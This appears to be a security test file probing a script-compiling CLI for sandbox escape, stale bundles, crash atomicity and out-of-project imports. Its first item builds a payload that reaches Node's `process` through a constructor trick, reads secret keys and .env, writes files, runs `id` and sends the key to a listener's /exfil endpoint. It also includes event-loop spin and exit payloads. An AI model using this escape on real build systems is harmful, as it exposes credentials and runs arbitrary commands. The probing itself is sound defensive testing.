// Items 1, 2, 3 and 9 of the hardening probe: what compile and deploy do with hostile top-level
// code, edits and overlapping compiles, kill -9, and an index.ts import out of the project.
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, readlink, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { KEY, sleep, ferry, summary, project, action, sync, server, platform, platformEnv, tree, probe } from './support.mjs';

// ---------------------------------------------------------------- 1. definitions evaluated in the sandbox

/** Top-level code reaching `process` through zod's constructor, each capability tried on its own. */
const reachProcess = (listener) =>
    action(
        `const found: Record<string, unknown> = {};
const attempt = (name: string, fn: () => unknown): void => {
    try { found[name] = fn(); } catch { found[name] = 'refused'; }
};
const F = (z.object as any).constructor;
const proc = F('return process')();
attempt('envKey', () => (proc.env.NANGO_SECRET_KEY_DEV ? 'READ' : 'none'));
attempt('dotenv', () => (proc.getBuiltinModule('fs').readFileSync('.env', 'utf8').includes('SECRET') ? 'READ' : 'empty'));
attempt('write', () => (proc.getBuiltinModule('fs').writeFileSync('pwned.txt', 'x'), 'written'));
attempt('id', () => proc.getBuiltinModule('child_process').execSync('id').toString().slice(0, 12));
attempt('fetch', () => (F('u', 'return fetch(u)')('${listener}/exfil?k=' + String(proc.env?.NANGO_SECRET_KEY_DEV)), 'sent'));`,
        'return { b: input.a };',
        `'probe ' + JSON.stringify(found)`
    );

/** What the probe's top-level code found, from the manifest's description or the deploy body. */
function found(text) {
    const match = /probe (\{[^}]*\})/.exec(text.replace(/\\"/g, '"'));
    return match ? match[1] : 'no description found';
}

export async function item1() {
    const before = 'read the key from env and .env, sent it over HTTP, wrote files, ran `id`; deploy succeeded';
    await probe(1, "compile: top level `(z.object as any).constructor('return process')()` reads key/.env, writes, runs id, fetches", before, async () => {
        const listener = await server(() => ({ body: {} }));
        const root = await project('reach-compile', { 'demo/actions/probe.ts': reachProcess(listener.url) });
        await writeFile(join(root, '.env'), `NANGO_SECRET_KEY_DEV=${KEY}\n`);
        const r = await ferry(['compile', '--no-typecheck'], { cwd: root, env: { NANGO_SECRET_KEY_DEV: KEY } });
        await sleep(300);
        const manifest = await readFile(join(root, '.nango/nango.json'), 'utf8').catch(() => '');
        return `${summary(r)}; found ${found(manifest)}; pwned.txt ${existsSync(join(root, 'pwned.txt')) ? 'WRITTEN' : 'absent'}; listener got ${listener.requests.length} request(s)`;
    });
    await probe(1, 'deploy: the same file, key in env and .env, fake platform', before, async () => {
        const listener = await server(() => ({ body: {} }));
        const plat = await platform();
        const root = await project('reach-deploy', { 'demo/actions/probe.ts': reachProcess(listener.url) });
        await writeFile(join(root, '.env'), `NANGO_SECRET_KEY_DEV=${KEY}\nNANGO_HOSTPORT=${plat.url}\n`);
        const r = await ferry(['deploy', '--auto-confirm'], { cwd: root, env: platformEnv(plat.url) });
        await sleep(300);
        const sent = plat.requests.filter((q) => q.path === '/sync/deploy').map((q) => q.body).join('\n');
        const keyInBody = plat.requests.some((q) => q.body.includes(KEY));
        return `${summary(r)}; found ${found(sent)}; pwned.txt ${existsSync(join(root, 'pwned.txt')) ? 'WRITTEN' : 'absent'}; listener got ${listener.requests.length} request(s); key in uploaded bodies: ${keyInBody ? 'YES' : 'no'}`;
    });
    await probe(1, 'compile --json: top-level `process.exit(0)` (via the constructor)', 'compile --json exited 0 with no output', async () => {
        const root = await project('exit', { 'demo/actions/quits.ts': action("(z.object as any).constructor('return process')().exit(0);") });
        const r = await ferry(['compile', '--json', '--no-typecheck'], { cwd: root });
        return `${summary(r)}; stdout ${r.stdout.trim() ? `${r.stdout.length} bytes of JSON` : 'EMPTY'}`;
    });
    await probe(1, 'compile: top-level `async function f(){for(;;) await null} f()`', 'compile hung forever', async () => {
        const root = await project('spin', { 'demo/actions/spins.ts': action('async function spin(): Promise<void> { for (;;) await null; }\nvoid spin();') });
        const r = await ferry(['compile', '--json', '--no-typecheck'], { cwd: root, timeoutMs: 90_000 });
        return `${summary(r)} after ${(r.ms / 1000).toFixed(1)} s`;
    });
    await probe(1, 'compile: top-level promise-chain spin (`(function f(){Promise.resolve().then(f);Promise.resolve().then(f)})()`)', 'V8 out-of-memory abort, exit 134', async () => {
        const root = await project('chain', { 'demo/actions/chain.ts': action('(function f(): void { Promise.resolve().then(f); Promise.resolve().then(f); })();') });
        const r = await ferry(['compile', '--json', '--no-typecheck'], { cwd: root, timeoutMs: 90_000 });
        return `${summary(r)} after ${(r.ms / 1000).toFixed(1)} s`;
    });
}

// ---------------------------------------------------------------- 2. no stale bundles

/** A project of `count` actions beside `demo/actions/target.ts`, whose source carries `mark`. */
const marked = (mark) => action(`const MARK = '${mark}';`, 'return { b: MARK };');
async function manyActions(name, count) {
    const files = { 'demo/actions/target.ts': marked('mark-0') };
    for (let i = 0; i < count; i++) files[`demo/actions/a${i}.ts`] = action(`const N = ${i};`, 'return { b: String(N) };');
    return project(name, files);
}
const targetBundle = (root) => readFile(join(root, 'build/demo_actions_target.cjs'), 'utf8').catch(() => '(no bundle)');
const markOf = (text) => /mark-[\w-]+/.exec(text)?.[0] ?? 'none';

export async function item2() {
    await probe(2, 'edit a file while `compile --no-typecheck` runs (61 functions): 0.1/0.15/0.2 s after spawn, and 0/50/150 ms after its `--debug` "bundle: bundling" line under `--no-cache`; then compile again and compare bundle vs source', 'the stale bundle stayed "cached" (and deploy uploaded it)', async () => {
        const root = await manyActions('edit-race', 60);
        await ferry(['compile', '--no-typecheck'], { cwd: root, timeoutMs: 120_000 });
        const outcomes = [];
        const rounds = [[100, false], [150, false], [200, false], [0, true], [50, true], [150, true]];
        for (const [i, [delay, afterBundling]] of rounds.entries()) {
            await writeFile(join(root, 'demo/actions/target.ts'), marked(`mark-${i}-old`));
            const raced = await ferry(['compile', '--no-typecheck', ...(afterBundling ? ['--debug', '--no-cache'] : [])], {
                cwd: root,
                timeoutMs: 120_000,
                during: async (child, out) => {
                    child.stdin.end();
                    for (let t = 0; afterBundling && t < 600 && !out.stderr.includes('bundle: bundling') && child.exitCode === null; t++) await sleep(5);
                    await sleep(delay);
                    await writeFile(join(root, 'demo/actions/target.ts'), marked(`mark-${i}-new`));
                }
            });
            const racedMark = markOf(await targetBundle(root));
            const next = await ferry(['compile', '--no-typecheck', '--json'], { cwd: root, timeoutMs: 120_000 });
            const bundle = markOf(await targetBundle(root));
            const cached = JSON.parse(next.stdout || '{}').functions?.find((f) => /target/.test(JSON.stringify(f)))?.cached;
            const when = afterBundling ? `${delay} ms after bundling began` : `${delay} ms after spawn`;
            outcomes.push(`${when} (compile took ${raced.ms} ms, bundled the ${racedMark.endsWith('new') ? 'new' : 'old'} source): next compile ${cached ? 'kept it cached' : 'rebuilt it'}, bundle ${bundle === `mark-${i}-new` ? 'matches the source' : `STALE (${bundle})`}`);
        }
        return outcomes.join('; ');
    });
    await probe(2, 'two overlapping compiles of different sources (the second started 0.1 s after the first, after an edit)', 'could leave a bundle that does not match its source', async () => {
        const root = await manyActions('overlap', 60);
        await ferry(['compile', '--no-typecheck'], { cwd: root, timeoutMs: 120_000 });
        await writeFile(join(root, 'demo/actions/target.ts'), marked('mark-first'));
        const started = Date.now();
        const first = ferry(['compile', '--no-typecheck'], { cwd: root, timeoutMs: 120_000 });
        await sleep(100);
        const secondAt = Date.now() - started;
        await writeFile(join(root, 'demo/actions/target.ts'), marked('mark-second'));
        const second = await ferry(['compile', '--no-typecheck'], { cwd: root, timeoutMs: 120_000 });
        const one = await first;
        const afterBoth = markOf(await targetBundle(root));
        const waited = /waiting for another compile[^\n]*/.exec(second.stderr)?.[0];
        const overlap = one.ms > secondAt ? `they overlapped (first took ${one.ms} ms, second started at ${secondAt} ms)` : `NO overlap this time (first took ${one.ms} ms)`;
        return `${overlap}; exits ${one.code} and ${second.code}; second said ${waited ? `"${waited}"` : 'nothing about waiting'}; bundle after both: ${afterBoth === 'mark-second' ? 'matches the source' : `STALE (${afterBoth})`}`;
    });
}

// ---------------------------------------------------------------- 3. atomic build under kill -9

/** What a reader sees as a compile's output: the manifest and every bundle through build/. */
async function output(root) {
    const files = new Map([['.nango/nango.json', await readFile(join(root, '.nango/nango.json'), 'utf8').catch(() => '')]]);
    for (const name of (await readdir(join(root, 'build')).catch(() => [])).filter((n) => n.endsWith('.cjs')).sort()) files.set(name, await readFile(join(root, 'build', name), 'utf8'));
    return files;
}
const same = (a, b) => a.size === b.size && [...a].every(([k, v]) => b.get(k) === v);
const temporaries = async (root) => (await tree(root)).filter((rel) => !rel.startsWith('node_modules') && /\.tmp$|\.tmp[-.]|\.partial$/.test(rel));

export async function item3() {
    await probe(3, 'kill -9 a `compile --no-cache` of 60 functions 0/5/10/20/40 ms into its write phase (`--debug` "write: writing"), and 250 ms after spawn (bundling)', '58 old + 26 new bundles with the old manifest; up to 65 `.*.tmp` files stayed', async () => {
        const root = await manyActions('kill', 60);
        const version = async (v) => {
            for (let i = 0; i < 60; i++) await writeFile(join(root, `demo/actions/a${i}.ts`), action(`const N = '${v}-${i}';`, 'return { b: N };'));
        };
        const outcomes = [];
        let layout = '';
        for (const moment of [0, 5, 10, 20, 40, 'spawn+250']) {
            await version(`old${moment}`);
            await ferry(['compile', '--no-typecheck'], { cwd: root });
            const before = await output(root);
            await version(`new${moment}`);
            const killed = await ferry(['compile', '--no-typecheck', '--debug', '--no-cache'], {
                cwd: root,
                during: async (child, out) => {
                    child.stdin.end();
                    if (typeof moment === 'string') await sleep(250);
                    for (let t = 0; typeof moment === 'number' && t < 600 && !out.stderr.includes('write: writing') && child.exitCode === null; t++) await sleep(5);
                    if (typeof moment === 'number') await sleep(moment);
                    child.kill('SIGKILL');
                }
            });
            const atKill = await output(root);
            const tempsAtKill = (await temporaries(root)).length;
            const next = await ferry(['compile', '--no-typecheck'], { cwd: root });
            const after = await output(root);
            const verdict = same(atKill, before) ? 'old' : same(atKill, after) ? 'new' : 'MIX';
            outcomes.push(`${typeof moment === 'number' ? `${moment} ms into writing` : '250 ms after spawn'}: ${killed.signal ?? `exit ${killed.code}`}, build was ${verdict}, ${tempsAtKill} temp file(s) after the kill, ${(await temporaries(root)).length} after the next compile (exit ${next.code})`);
            const generations = await readdir(join(root, '.ferry/build')).catch(() => []);
            layout = `build -> ${await readlink(join(root, 'build')).catch(() => 'not a link')}; .ferry/build holds ${generations.join(', ')}`;
        }
        return `${outcomes.join('; ')}; ${layout}`;
    });
    await probe(3, 'kill -9 a `dryrun --out out/records.jsonl` of an endless sync after 2 s, then run it again', 'a killed dryrun --out left an 81 MB temp file', async () => {
        const plat = await platform();
        const root = await project('out', { 'demo/syncs/endless.ts': sync("for (let i = 0; ; i++) await nango.batchSave(Array.from({ length: 500 }, (_, j) => ({ id: `${i}-${j}`, pad: 'x'.repeat(100) })), 'Rec');") });
        await mkdir(join(root, 'out'));
        const args = ['dryrun', 'endless', 'c1', '--out', 'out/records.jsonl'];
        const killed = await ferry(args, { cwd: root, env: platformEnv(plat.url), during: async (child) => (child.stdin.end(), await sleep(2000), child.kill('SIGKILL')) });
        const left = await sizes(join(root, 'out'));
        const again = await ferry([...args, '--timeout', '1s'], { cwd: root, env: platformEnv(plat.url) });
        return `killed: ${killed.signal ?? `exit ${killed.code}`}; left in out/: ${left || 'nothing'}; the next run (--timeout 1s, ${summary(again)}) left: ${(await sizes(join(root, 'out'))) || 'nothing'}`;
    });
}

async function sizes(dir) {
    const names = await readdir(dir).catch(() => []);
    const parts = [];
    for (const name of names) parts.push(`${name} (${((await stat(join(dir, name))).size / 1e6).toFixed(1)} MB)`);
    return parts.join(', ');
}

// ---------------------------------------------------------------- 9. every entry refused the same way

export async function item9() {
    await probe(9, "index.ts holding only `import '../outside/x.js'`", "compiled '0 functions' and deleted every bundle", async () => {
        const root = await project('outside', { 'demo/actions/a.ts': action(), 'demo/actions/b.ts': action() }, { nested: true });
        const first = await ferry(['compile', '--no-typecheck'], { cwd: root });
        const bundles = async () => (await readdir(join(root, 'build')).catch(() => [])).filter((n) => n.endsWith('.cjs')).length;
        const before = await bundles();
        await mkdir(join(root, '../outside'), { recursive: true });
        await writeFile(join(root, '../outside/x.ts'), 'export default {};\n');
        await writeFile(join(root, 'index.ts'), "import '../outside/x.js';\n");
        const r = await ferry(['compile', '--json', '--no-typecheck'], { cwd: root });
        return `first compile exit ${first.code}; then ${summary(r)}; bundles ${before} -> ${await bundles()}`;
    });
}
